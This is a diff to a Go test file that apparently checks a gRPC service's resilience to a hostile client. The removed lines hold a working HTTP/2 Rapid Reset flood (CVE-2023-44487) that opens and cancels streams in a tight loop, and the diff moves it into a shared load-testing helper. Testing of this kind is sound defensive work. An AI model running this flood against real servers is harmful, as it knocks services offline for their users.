@@ -1,10 +1,8 @@
 package hostile
 
 import (
-	"bytes"
 	"context"
 	"crypto/tls"
-	"fmt"
 	"math/rand/v2"
 	"slices"
 	"strings"
@@ -12,8 +10,8 @@ import (
 	"testing"
 	"time"
 
-	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
+	"github.com/slicefeed/slicefeed/lab/load"
+
 	"google.golang.org/grpc"
 	"google.golang.org/grpc/codes"
 	"google.golang.org/grpc/metadata"
@@ -116,41 +114,8 @@ func call(ctx context.Context, conn *grpc.ClientConn, request any, after time.Du
 	<-ctx.Done()
 }
 
-// rapidResets opens and resets streams without waiting for anything (CVE-2023-44487).
 func rapidResets(ctx context.Context, i *inventory, _ *rand.Rand) {
-	cfg := i.as(enemy)
-	for ctx.Err() == nil {
-		conn, err := (&tls.Dialer{Config: cfg}).DialContext(ctx, "tcp", i.address)
-		if err != nil {
-			continue
-		}
-		stop := context.AfterFunc(ctx, func() { conn.Close() })
-		fmt.Fprint(conn, http2.ClientPreface)
-		framer := http2.NewFramer(conn, conn)
-		framer.WriteSettings()
-		var block bytes.Buffer
-		encoder := hpack.NewEncoder(&block)
-		for id := uint32(1); err == nil && id < 200_000; id += 2 {
-			block.Reset()
-			for _, f := range [][2]string{
-				{":method", "POST"},
-				{":scheme", "https"},
-				{":path", watch},
-				{":authority", "inventory.example"},
-				{"content-type", "application/grpc"},
-				{"te", "trailers"},
-			} {
-				encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
-			}
-			if err = framer.WriteHeaders(
-				http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true},
-			); err == nil {
-				err = framer.WriteRSTStream(id, http2.ErrCodeCancel)
-			}
-		}
-		stop()
-		conn.Close()
-	}
+	load.ResetRapidly(ctx, i.address, i.as(enemy), 1, 0)
 }
 
 func TestAHostileSubscriberIsFeltByItselfAlone(t *testing.T) {
